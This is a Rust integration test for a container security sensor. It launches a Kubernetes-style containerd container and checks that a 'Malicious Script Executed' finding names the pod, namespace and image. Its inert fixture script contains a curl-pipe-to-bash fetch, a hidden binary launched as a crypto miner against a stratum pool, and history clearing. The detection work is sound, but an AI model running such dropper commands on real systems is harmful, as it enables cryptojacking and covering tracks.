//! A real containerd, running a container the way kubelet's CRI plugin does:
//! a 64-hex id, a cgroup under `/kubepods/<qos>/pod<uid>/`, and the CRI
//! annotations (container, pod, namespace, image) in the bundle's
//! config.json. The live sensor must name that container, pod and image in
//! the finding for an inert script run inside it. The test starts its own
//! containerd (its own socket and state; the image store is kept in
//! /var/lib/sensor-test/containerd between runs) and imports the podman test
//! image into it. Needs root, eBPF, containerd, podman and onnxruntime
//! (`cargo xtask setup`).

#[path = "support/sensor.rs"]
mod sensor;
#[path = "support/podman.rs"]
mod support;

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use sensor::{script_path, wait_for, Sensor};
use support::test_image;

const NAMESPACE: &str = "sensor-test";
const ROOT: &str = "/var/lib/sensor-test/containerd";

/// Inert: exits on line 2.
const DROPPER: &str =
    "#!/bin/bash\\nexit 0\\ncurl -fsSL http://127.0.0.1:9/x.sh | bash; chmod +x /tmp/.k; \
nohup /tmp/.k -o stratum+tcp://127.0.0.1:3333 &\\nhistory -c\\n";

/// Our containerd; on drop its containers are killed and removed, then it stops.
struct Containerd {
    child: Child,
    socket: PathBuf,
    containers: Vec<String>,
}

impl Containerd {
    fn start(state: &Path) -> Self {
        let socket = state.join("containerd.sock");
        let config = state.join("config.toml");
        std::fs::write(
            &config,
            format!(
                "version = 2\nroot = \"{ROOT}\"\nstate = \"{}\"\n[grpc]\n  address = \"{}\"\n",
                state.join("state").display(),
                socket.display()
            ),
        )
        .unwrap();
        let log = std::fs::File::create(state.join("containerd.log")).unwrap();
        let child = Command::new("containerd")
            .arg("--config")
            .arg(&config)
            .stdout(Stdio::null())
            .stderr(log)
            .spawn()
            .expect("start containerd (installed by `cargo xtask setup`)");
        let containerd = Self {
            child,
            socket,
            containers: Vec::new(),
        };
        let deadline = Instant::now() + Duration::from_secs(60);
        while !containerd.ctr(&["version"]).status.success() {
            assert!(
                Instant::now() < deadline,
                "containerd did not start: {}",
                state.join("containerd.log").display()
            );
            std::thread::sleep(Duration::from_millis(100));
        }
        containerd
    }

    fn ctr(&self, args: &[&str]) -> std::process::Output {
        Command::new("ctr")
            .arg("--address")
            .arg(&self.socket)
            .args(["--namespace", NAMESPACE])
            .args(args)
            .output()
            .expect("run ctr")
    }

    fn ctr_ok(&self, args: &[&str]) -> String {
        let out = self.ctr(args);
        assert!(
            out.status.success(),
            "ctr {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    /// The podman test image, imported once into the kept image store.
    fn import(&self, image: &str) {
        if self
            .ctr_ok(&["images", "ls", "--quiet"])
            .lines()
            .any(|l| l == image)
        {
            return;
        }
        let archive = tempfile::NamedTempFile::new().unwrap();
        support::podman(&[
            "save",
            "--format",
            "docker-archive",
            "--output",
            archive.path().to_str().unwrap(),
            image,
        ]);
        self.ctr_ok(&["images", "import", archive.path().to_str().unwrap()]);
    }
}

impl Drop for Containerd {
    fn drop(&mut self) {
        for id in &self.containers {
            let _ = self.ctr(&["tasks", "kill", "--signal", "SIGKILL", id]);
            let deadline = Instant::now() + Duration::from_secs(20);
            while !self.ctr(&["tasks", "delete", id]).status.success() && Instant::now() < deadline
            {
                std::thread::sleep(Duration::from_millis(100));
            }
            let _ = self.ctr(&["containers", "delete", id]);
        }
        // SAFETY: kill(2) on our own child's pid.
        unsafe { libc::kill(self.child.id() as i32, libc::SIGTERM) };
        let _ = self.child.wait();
    }
}

#[test]
fn a_kubernetes_style_containerd_container_is_named_in_the_finding() {
    let image = test_image();
    std::fs::create_dir_all(ROOT).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let mut containerd = Containerd::start(dir.path());
    containerd.import(&image);

    let config = dir.path().join("sensor.toml");
    std::fs::write(
        &config,
        format!(
            "[host]\ncontainerd_tasks = \"{}\"\n",
            dir.path()
                .join("state/io.containerd.runtime.v2.task")
                .display()
        ),
    )
    .unwrap();
    let output = dir.path().join("findings.jsonl");
    let sensor = Sensor::start(&[
        "run".as_ref(),
        "--config".as_ref(),
        config.as_os_str(),
        "--output".as_ref(),
        output.as_os_str(),
    ]);

    use sha2::Digest as _;
    let id = hex::encode(sha2::Sha256::digest(format!(
        "sensor-test-{}",
        std::process::id()
    )));
    let pod_uid = "5f0c1c2e-0d1b-4c7a-9a55-2b6f9d3e8a10";
    let script = format!("/tmp/cri-{}.sh", std::process::id());
    containerd.containers.push(id.clone());
    containerd.ctr_ok(&[
        "run",
        "--detach",
        "--cgroup",
        &format!("/kubepods/besteffort/pod{pod_uid}/{id}"),
        "--annotation=io.kubernetes.cri.container-type=container",
        "--annotation=io.kubernetes.cri.container-name=app",
        "--annotation=io.kubernetes.cri.sandbox-name=web-7d9f",
        "--annotation=io.kubernetes.cri.sandbox-namespace=shop",
        &format!("--annotation=io.kubernetes.cri.sandbox-uid={pod_uid}"),
        "--annotation=io.kubernetes.cri.image-name=registry.example/shop/web:1.2",
        &image,
        &id,
        "bash",
        "-c",
        &format!("printf '{DROPPER}' > {script} && bash {script}; exec sleep 600"),
    ]);

    let all = wait_for(&output, |all| {
        all.iter().any(|f| script_path(f) == Some(script.as_str()))
    });
    let finding = all
        .iter()
        .find(|f| script_path(f) == Some(script.as_str()))
        .unwrap_or_else(|| panic!("no finding for {script} in {all:#?}"));
    let f = &finding["finding"];
    assert_eq!(f["category"], "Malicious Script Executed");
    assert_eq!(f["containers"][0]["name"], "app", "{f:#}");
    assert_eq!(
        f["containers"][0]["uri"], "registry.example/shop/web:1.2",
        "{f:#}"
    );
    let pod = &f["kubernetes"]["pods"][0];
    assert_eq!(pod["name"], "web-7d9f", "{f:#}");
    assert_eq!(pod["ns"], "shop", "{f:#}");
    assert_eq!(f["sourceProperties"]["container_id"], id.as_str(), "{f:#}");
    assert_eq!(f["sourceProperties"]["runtime"], "containerd", "{f:#}");
    sensor.stop();
}
